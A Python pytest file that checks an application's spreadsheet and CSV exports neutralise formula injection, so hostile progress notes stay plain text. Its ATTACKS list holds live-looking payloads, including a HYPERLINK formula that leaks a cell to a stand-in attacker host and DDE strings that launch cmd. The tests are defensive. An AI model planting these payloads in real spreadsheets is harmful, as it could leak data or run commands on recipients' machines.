"""Formulas into the upper level's sheet: every text RectDesk writes stays text.

Each attack string goes through every writer (fill-back, the Excel report of every built-in
template, the audit log as .xlsx and as .csv) and is read back: openpyxl must see a string
cell holding exactly the text, the sheet XML must hold no formula, and the CSV bytes must
start no field with a character that makes a spreadsheet evaluate it.
"""

from __future__ import annotations

import csv
import datetime as dt
import importlib.util
import io
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from types import ModuleType

import openpyxl
import pytest

from rectdesk.cli import main
from rectdesk.domain.model import Status
from rectdesk.domain.privacy import OutputMode
from rectdesk.reports import fonts
from rectdesk.reports.cells import csv_text, put_text
from rectdesk.reports.fontfiles import read_faces
from rectdesk.reports.templates import BUILTINS
from rectdesk.services import audit, importing
from rectdesk.services.fillback import fill_back
from rectdesk.services.items import ItemService
from rectdesk.services.reporting import export_report
from rectdesk.store import Store

#: What a hostile or careless progress note may start with.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    '=DDE("cmd";"/C calc";"!A0")',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "＝1+1",
]
TODAY = dt.date(2023, 11, 20)
TEST_FONT = Path("/usr/share/fonts/truetype/wqy/wqy-zenhei.ttc")


def _samples() -> ModuleType:
    path = Path(__file__).resolve().parent / "importers" / "samples.py"
    spec = importlib.util.spec_from_file_location("formula_samples", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules.setdefault("formula_samples", module)
    spec.loader.exec_module(module)
    return module


samples = _samples()


def cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    """Every non-empty cell of every sheet."""
    book = openpyxl.load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]


def formula_xml(path: Path) -> list[str]:
    """Sheets whose XML holds a formula element at all."""
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def assert_all_text(path: Path, wanted: list[str]) -> None:
    found = cells(path)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    assert formula_xml(path) == []
    values = {c.value for c in found}
    for text in wanted:
        assert text in values, text
        assert all(c.data_type == "s" for c in found if c.value == text)


@pytest.fixture
def filled(store: Store, tmp_path: Path) -> tuple[Path, list[str], int]:
    """The seed-001 sheet imported, each item given an attack as its progress, filled back."""
    original = samples.seed_001_workbook(tmp_path / "整改工作方案.xlsx")
    result = importing.import_file(store, original, batch_name="方案")
    batch = result.batch_id or 0
    service = ItemService(store, "测试")
    items = store.items()
    stored: list[str] = []
    # A control character from Word rides along on the last one.
    notes = [*ATTACKS[:4], "=1+1\x0b（已办）"]
    for item, note in zip(items, notes, strict=True):
        # Through the service, as the window and the CLI write it (text is trimmed there).
        service.add_progress([item.id], TODAY, note).do()
        stored.append(store.item(item.id).progress)
    output = tmp_path / "回填.xlsx"
    fill_back(store, batch, original, output, actor="测试")
    return output, stored, batch


def test_fill_back_writes_attacks_as_text(filled: tuple[Path, list[str], int]) -> None:
    output, stored, _batch = filled
    # A control character from Word is dropped, not a reason to fail.
    assert_all_text(output, [text.replace("\x0b", "") for text in stored])
    assert stored[3] == "=1+1"  # "\t=1+1" trimmed by the service: still text in the sheet


def test_fill_back_is_audited(filled: tuple[Path, list[str], int], store: Store) -> None:
    output, _stored, batch = filled
    entry = store.audit_log(limit=1)[0]
    assert (entry.action, entry.field, entry.actor) == ("export_full", "fill_back", "测试")
    assert output.name in entry.new and f"批次 {batch}" in entry.new
    label = audit.rows([entry])[0]
    assert label[4] == "导出完整个人信息" and label[5] == "回填原表"


def test_fill_back_refuses_a_read_only_store(
    filled: tuple[Path, list[str], int], store: Store, db_path: Path, tmp_path: Path
) -> None:
    _output, _stored, batch = filled
    original = samples.seed_001_workbook(tmp_path / "again.xlsx")
    with (
        Store.open(db_path, readonly=True) as reader,
        pytest.raises(Exception, match="审计日志") as raised,
    ):
        fill_back(reader, batch, original, tmp_path / "ro.xlsx")
    assert type(raised.value).__name__ == "UserError"
    assert not (tmp_path / "ro.xlsx").exists()


def test_cli_fill_back_says_full_data_and_records_it(
    store: Store, db_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    original = samples.seed_001_workbook(tmp_path / "方案.xlsx")
    batch = importing.import_file(store, original, batch_name="方案").batch_id or 0
    store.close()
    output = tmp_path / "回填.xlsx"
    code = main(["--db", str(db_path), "fill-back", str(original), "--batch", str(batch),
                 "--output", str(output)])  # fmt: skip
    out = capsys.readouterr().out
    assert code == 0 and output.exists()
    assert "完整信息" in out and "不做脱敏" in out and "审计日志" in out
    with Store.open(db_path) as reopened:
        assert reopened.audit_log(limit=1)[0].field == "fill_back"


@pytest.fixture
def hostile_store(demo_store: Store) -> Store:
    """Demo data whose first items carry the attacks in every field a report prints."""
    items = demo_store.items()
    for item, attack in zip(items, ATTACKS, strict=False):
        changes = {f: attack for f in ("origin", "content", "measures", "outcomes", "remarks")}
        demo_store.update_item(item.id, {**changes, "progress": attack}, actor=attack)
    closed = [i for i in items if i.status is Status.CLOSED][:1]
    for item in closed:
        demo_store.update_item(item.id, {"progress": ATTACKS[0]}, actor="测试")
    return demo_store


@pytest.mark.parametrize("template", sorted(BUILTINS))
def test_every_report_template_writes_attacks_as_text(
    template: str, hostile_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if TEST_FONT.exists():
        faces = tuple(f for f in read_faces(TEST_FONT) if f.truetype)
        monkeypatch.setattr(fonts, "scan_faces", lambda dirs=None: faces)
    for mode in (OutputMode.MASKED, OutputMode.FULL):
        path = tmp_path / f"{template}-{mode.value}.xlsx"
        export_report(hostile_store, template, "xlsx", path, mode=mode, today=TODAY)
        found = cells(path)
        assert [c.coordinate for c in found if c.data_type == "f"] == [], (template, mode)
        assert formula_xml(path) == []
        starting = [c for c in found if str(c.value).startswith(("=", "+", "-", "@"))]
        assert all(c.data_type == "s" for c in starting)
    if template in ("plan", "ledger", "summary"):
        assert "=1+1" in {c.value for c in found}, template


def test_audit_xlsx_export_writes_attacks_as_text(hostile_store: Store, tmp_path: Path) -> None:
    target = tmp_path / "审计日志.xlsx"
    audit.export(hostile_store, target)
    found = cells(target)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    assert formula_xml(target) == []
    values = {c.value for c in found}
    for attack in ATTACKS:
        assert attack.replace("\x0b", "") in values, attack
    assert all(c.data_type == "s" for c in found if str(c.value)[:1] in "=+-@\t\r")


def test_audit_csv_neutralises_every_formula_start(hostile_store: Store, tmp_path: Path) -> None:
    target = tmp_path / "审计日志.csv"
    audit.export(hostile_store, target)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    fields = [field for row in rows for field in row]
    assert [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    for attack in ATTACKS:
        assert "'" + attack in fields or attack[0] == "＝", attack
    # The bytes themselves hold each attack behind its quote mark, as a CSV field.
    text = raw.decode("utf-8-sig")
    for attack in ATTACKS[:-1]:
        field = io.StringIO()
        csv.writer(field).writerow(["'" + attack])
        assert "," + field.getvalue().rstrip("\r\n") + "," in text, attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_helpers_round_trip(attack: str, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    put_text(sheet["A1"], attack)
    put_text(sheet["A2"], "")
    book.save(tmp_path / "t.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "t.xlsx").active["A1"]  # type: ignore[index]
    assert (cell.data_type, cell.value) == ("s", attack)
    assert csv_text(attack)[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert csv_text(attack).lstrip("'") == attack


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
def test_libreoffice_shows_the_text_not_its_result(
    filled: tuple[Path, list[str], int], tmp_path: Path
) -> None:
    output, stored, _batch = filled
    profile = tmp_path / "lo-profile"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{profile}", "--headless",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
         str(tmp_path / "lo"), str(output)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    shown = (tmp_path / "lo" / (output.stem + ".csv")).read_text("utf-8")
    rows = list(csv.reader(io.StringIO(shown, newline="")))
    header = next(row for row in rows if "整改进展" in row)
    column = header.index("整改进展")
    progress = [row[column] for row in rows[rows.index(header) + 1 :] if len(row) > column]
    # What LibreOffice displays is the text itself: =1+1 was not computed to 2.
    assert progress == [text.replace("\x0b", "") for text in stored]


def test_fill_back_dialog_says_full_data_and_records_it(
    qtbot: object, store: Store, db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from rectdesk.services.context import AppContext
    from rectdesk.ui.fillback_dialog import FillBackDialog

    original = samples.seed_001_workbook(tmp_path / "方案.xlsx")
    batch = importing.import_file(store, original, batch_name="方案").batch_id or 0
    monkeypatch.setattr(Path, "home", lambda: tmp_path)
    dialog = FillBackDialog(AppContext(store, db_path), None, batch)
    qtbot.addWidget(dialog)  # type: ignore[attr-defined]
    assert "不做脱敏" in dialog.notice.text() and "审计日志" in dialog.notice.text()
    dialog.fill_button.click()
    assert dialog.outcome is not None and "已记入审计日志" in dialog.message.text()
    entry = store.audit_log(limit=1)[0]
    assert entry.action == "export_full" and dialog.outcome.output.name in entry.new
